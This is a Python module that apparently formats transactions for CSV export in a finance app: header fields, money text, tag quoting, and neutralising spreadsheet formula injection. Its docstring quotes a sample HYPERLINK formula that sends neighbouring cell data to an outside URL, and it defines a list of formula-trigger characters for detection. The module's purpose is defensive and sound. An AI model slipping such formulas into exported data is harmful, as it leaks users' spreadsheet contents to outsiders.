"""An exported transaction's cells: the header, money as text, tags in one cell, and text
that a spreadsheet would run as a formula made inert. Pure functions.

Formula injection ("CSV injection", OWASP; ASVS 5.0 §1.2.10): a label or a category is
typed by a person or comes from a bank file, and a cell starting with `=`, `+`, `-`, `@`,
a tab or a carriage return (or NUL) is read by Excel, LibreOffice or Sheets as the start of
a formula (`=HYPERLINK("https://…?"&A1)` sends the neighbouring cells away). Such text gets
a leading `'`, which spreadsheets show as text and never evaluate. Only text cells: amounts
are numbers, dates ISO text or real dates, and the rest foyer's own words.
"""

from __future__ import annotations

from collections.abc import Sequence

#: The header row: the transaction's field names (SPEC §12), in this order.
FIELDS = (
    "date",
    "label",
    "amount",
    "category",
    "category_parent",
    "account",
    "expense_type",
    "exclude",
    "tags",
)
#: What makes a spreadsheet read a cell as a formula when it comes first.
FORMULA_STARTS = frozenset("=+-@\t\r\0")
_QUOTED_TAG = frozenset(',"\r\n')


def inert(text: str) -> str:
    """`text` as a spreadsheet will show it and never evaluate: `'` before a formula start."""
    return "'" + text if text and text[0] in FORMULA_STARTS else text


def money_text(cents: int) -> str:
    """Integer cents as a plain number with a `.` and two decimals: -1250 -> "-12.50"."""
    units, rest = divmod(abs(cents), 100)
    return f"-{units}.{rest:02d}" if cents < 0 else f"{units}.{rest:02d}"


def tags_text(tags: Sequence[str]) -> str:
    """Tags in one cell, joined by `,`; itself a CSV record, so a tag holding a comma or a
    quote is quoted (`bio,"a, b"`) and a CSV reader gives the exact tags back."""
    return ",".join(
        '"' + tag.replace('"', '""') + '"' if not _QUOTED_TAG.isdisjoint(tag) else tag
        for tag in tags
    )
